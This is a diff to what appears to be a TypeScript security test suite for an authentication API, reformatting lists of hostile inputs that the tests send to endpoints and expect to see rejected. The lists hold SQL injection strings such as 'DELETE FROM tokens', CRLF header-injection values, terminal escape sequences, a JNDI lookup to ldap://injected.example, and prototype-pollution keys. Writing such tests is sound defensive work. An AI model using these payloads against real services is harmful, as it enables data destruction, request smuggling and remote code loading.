@@ -14,7 +14,10 @@ import { aTarget, assertStillGood, credentialsFor, recordOf, type Target } from 
 const TEXTS = [
   // To a database. A username has no spaces.
   "injected' OR '1'='1",
-  ...["injected'/**/OR/**/'1'='1", "'||lo_create(0)||'injected", "'--injected", "injected'"],
+  "injected'/**/OR/**/'1'='1",
+  "'||lo_create(0)||'injected",
+  "'--injected",
+  "injected'",
   '" OR ""="injected',
   "'; CREATE TABLE injected (x int); --",
   '1; CREATE TABLE injected (x int)',
@@ -25,7 +28,10 @@ const TEXTS = [
   "injected\\'; DELETE FROM tokens; --",
   '$$; DELETE FROM tokens; $$injected',
   '\uff07; DELETE FROM tokens; --injected',
-  ...['$1', '%', '_', '%_%'],
+  '$1',
+  '%',
+  '_',
+  '%_%',
   // To the head of an answer. The low bytes of some characters are CR and LF.
   ...['\r\n', '\n', '\r', '\r\n\r\n<script>', '%0d%0a', '\u560d\u560a', '\u010d\u010a'].map(
     (end) => `lk${end}X-Injected: 1`,
@@ -35,11 +41,23 @@ const TEXTS = [
   '\n{"level":"info","time":"2026-01-01T00:00:00.000Z","msg":"injected"}\n',
   '","msg":"injected","x":"',
   'injected\u001b[2J\u001b]8;;http://evil.example\u0007',
-  ...['injected\u009b2J', 'injected\b\b\b', 'injected\u007f', 'injected\u202e', 'injected\\u000a\\n'],
-  ...['${jndi:ldap://injected.example/x}', '%s %o %j %d injected'],
+  'injected\u009b2J',
+  'injected\b\b\b',
+  'injected\u007f',
+  'injected\u202e',
+  'injected\\u000a\\n',
+  '${jndi:ldap://injected.example/x}',
+  '%s %o %j %d injected',
   // To an object.
-  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasownproperty', 'then'],
-  ...['__proto__[injected]', '__proto__.injected', 'constructor[prototype][injected]'],
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasownproperty',
+  'then',
+  '__proto__[injected]',
+  '__proto__.injected',
+  'constructor[prototype][injected]',
 ];
 
 /** Names whose characters mean something in a header, an address or a page. */
@@ -127,7 +145,11 @@ test('no text in a path, a query, a header, a form or a credential has another m
       const at = (line: string, headers: string[], expects?: number[]): Attempt =>
         expects ? { line, headers, text, expects } : { line, headers, text };
       const post = (line: string, by: string, body: string, expects: number[]): Attempt => ({
-        ...{ line, headers: [by, form], body, text, expects },
+        line,
+        headers: [by, form],
+        body,
+        text,
+        expects,
       });
       return [
         ...['/api/auth/', '/api/auth/1', '/api/auth/llt/'].map((path) =>
@@ -153,8 +175,11 @@ test('no text in a path, a query, a header, a form or a credential has another m
         at(text.trim(), [user], [400, 404, 431]),
         ...['application/json', 'application/x-www-form-urlencoded', 'text/plain; x="injected"'].map(
           (type) => ({
-            ...{ line: 'POST /api/auth/signup', headers: [`Content-Type: ${type}`] },
-            ...{ body: text, text, expects: [400, 415] },
+            line: 'POST /api/auth/signup',
+            headers: [`Content-Type: ${type}`],
+            body: text,
+            text,
+            expects: [400, 415],
           }),
         ),
         post(introspect, service(client), `token=${part}`, [200]),
@@ -171,9 +196,24 @@ test('no text in a path, a query, a header, a form or a credential has another m
 });
 
 const HEADERS = [
-  ...['X-Request-Id', 'traceparent', 'tracestate', 'baggage', 'User-Agent', 'Referer', 'Cookie', 'Accept'],
-  ...['Origin', 'Forwarded', 'X-Forwarded-For', 'X-Forwarded-Host', 'If-None-Match', 'Last-Event-ID'],
-  ...['Content-Type', 'Expect', 'X-Auth-Username', 'Host'],
+  'X-Request-Id',
+  'traceparent',
+  'tracestate',
+  'baggage',
+  'User-Agent',
+  'Referer',
+  'Cookie',
+  'Accept',
+  'Origin',
+  'Forwarded',
+  'X-Forwarded-For',
+  'X-Forwarded-Host',
+  'If-None-Match',
+  'Last-Event-ID',
+  'Content-Type',
+  'Expect',
+  'X-Auth-Username',
+  'Host',
 ];
 
 test('no member of a JSON body changes a prototype', async (t) => {
@@ -192,7 +232,11 @@ test('no member of a JSON body changes a prototype', async (t) => {
         good.replace(/:"[^"]*"/, `:{${member}}`),
         `[{${member}}]`,
       ]).map((body) => ({
-        ...{ line: `${operation.method} ${operation.path}`, headers, body, text: body, expects: [400] },
+        line: `${operation.method} ${operation.path}`,
+        headers,
+        body,
+        text: body,
+        expects: [400],
       }));
     }),
   );
